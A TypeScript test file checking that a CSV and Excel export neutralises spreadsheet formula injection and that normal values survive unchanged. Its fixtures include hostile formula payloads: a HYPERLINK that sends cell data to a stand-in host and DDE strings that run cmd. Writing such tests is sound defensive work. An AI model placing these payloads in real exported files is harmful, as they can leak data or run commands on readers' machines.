import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvCell, csvText } from './csv';
import { tableFile } from './tables';
import { csvField } from '../linkage/csv';

/** Read a CSV back as a spreadsheet or a program would (the BOM dropped). */
const parse = (text: string) => Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;

describe('CSV cells a spreadsheet would run as formulas are neutralised (OWASP CSV Injection)', () => {
  const hostile = [
    '=HYPERLINK("http://evil.example/?"&B2,"open")',
    '+91 98220 12345',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '-5',
  ];

  it('prefixes each with a single quote and quotes the cell; the text survives a round trip', () => {
    for (const v of hostile) {
      const cell = csvCell(v);
      expect(cell.startsWith(`"'`), JSON.stringify(v)).toBe(true);
      expect(parse(`${cell}\n`)[0][0]).toBe(`'${v}`);
    }
  });

  it('leaves ordinary text, numbers typed as numbers and empty values as they were', () => {
    expect(csvCell('Laxmi Pawar')).toBe('Laxmi Pawar');
    expect(csvCell('लक्ष्मी')).toBe('लक्ष्मी');
    expect(csvCell('a=b')).toBe('a=b'); // not at the start
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(-0.25)).toBe('-0.25');
    expect(csvCell(12)).toBe('12');
    expect(csvCell(true)).toBe('true');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
  });

  it('quotes what would otherwise start a new cell or row, so nothing hostile begins a cell', () => {
    expect(csvCell('Pawar, Laxmi')).toBe('"Pawar, Laxmi"');
    expect(csvCell('a;=1+1')).toBe('"a;=1+1"'); // ";" separates cells in many locales
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('line\n=1+1')).toBe('"line\n=1+1"');
    const rows = parse(
      csvText(
        ['name', 'age'],
        [
          ['x,=1+1', 3],
          ['=cmd', -1],
        ],
      ),
    );
    expect(rows).toEqual([
      ['name', 'age'],
      ['x,=1+1', '3'],
      ["'=cmd", '-1'],
    ]);
  });

  it('the linkage CSV writer (labelled pairs, the link CLI) uses the same rule', () => {
    for (const v of hostile) expect(csvField(v)).toBe(csvCell(v));
    expect(csvField(-3.2)).toBe('-3.2');
  });

  it('tableFile: a CSV export neutralises names and keeps numbers; the Excel file stores text as text', async () => {
    const rows = [
      { name: '=HYPERLINK("http://evil.example","x")', age: 7, phone: '+919822012345' },
      { name: 'Sneha', age: -1, phone: null },
    ];
    const columns = [
      { key: 'name', header: 'name', value: (r: (typeof rows)[number]) => r.name },
      { key: 'age', header: 'age', value: (r: (typeof rows)[number]) => r.age },
      { key: 'phone', header: 'phone', value: (r: (typeof rows)[number]) => r.phone },
    ];
    const csv = await tableFile('children', columns, rows, 'csv');
    expect(csv.contentType).toBe('text/csv; charset=utf-8');
    const text = csv.body.toString('utf8');
    expect(text.startsWith('\uFEFF')).toBe(true);
    expect(parse(text)).toEqual([
      ['name', 'age', 'phone'],
      [`'${rows[0].name}`, '7', "'+919822012345"],
      ['Sneha', '-1', ''],
    ]);
    expect(text).not.toMatch(/(^|[\n,])=HYPERLINK/);
  });
});
